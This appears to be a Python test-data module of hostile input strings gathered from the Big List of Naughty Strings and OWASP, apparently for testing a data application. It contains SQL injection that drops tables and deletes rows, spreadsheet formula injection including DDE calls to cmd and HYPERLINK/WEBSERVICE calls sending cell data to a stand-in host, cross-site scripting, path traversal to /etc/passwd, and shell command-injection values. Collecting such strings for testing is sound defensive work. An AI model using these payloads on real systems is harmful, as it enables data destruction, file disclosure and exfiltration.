"""Texts that break programs which take data for code, from public lists of such texts.

Gathered from the Big List of Naughty Strings (MIT), OWASP's pages on SQL injection, CSV injection
and cross-site scripting, and its path traversal page. One of each idea.
"""

from __future__ import annotations

SQL = (
    "' or '1'='1", "' or 1=1 --", "') or ('1'='1", "'; drop table fct_open_items; --", "1; select 1",
    "FR01'); delete from dim_customers; --", "' union select * from meta_imports --", "\\'; --",
    "$scope_bu", "$as_of", "${1}", "?", "%", "_", "\\", "'", '"', "''", "--", "/*", "*/ select 1 /*",
    "' and sleep(9) --", "; attach 'x.db'; --", "'||(select 1)||'", "read_csv('/etc/passwd')",
    "1e309", "null", "NULL", "true", "0x27",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://evil.test?x="&A1,"x")', '=IMPORTXML("http://evil.test","//a")',
    '=WEBSERVICE("http://evil.test")', "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    "+44 20 =1", "@", "=",
)  # fmt: skip
SCRIPTS = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "<svg/onload=alert(1)>", "[x](javascript:alert(1))", "![x](http://evil.test/a.png)",
    "<iframe src=http://evil.test>", "{{7*7}}", "${7*7}", "#{7*7}", ":red[x]", "$$x$$", ":material/x:",
    "<b>x</b>", "&lt;script&gt;",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd", "C:\\boot.ini", "file:" + "///etc/passwd", "a/../../b", "..", ".", "~root",
    "$(id)", "`id`", "; ls", "| id", "&& id", "-rf", "--help", "con", "nul.csv", "a\x00b.csv",
)  # fmt: skip
SIGNS = (
    "\u202etxt.exe", "\ufeffa", "\u0000", "\u200b", "ＦＲ０１", "ﬁ", "Ω≈ç√", "田中さん", "🧑‍🤝‍🧑", "﷽", "Z͑ͫ̓ͪ̂ͫ",
    " leading", "trailing ", "\t", "x" * 5_000,
)  # fmt: skip
ALL = (*SQL, *FORMULAS, *SCRIPTS, *PATHS, *SIGNS)
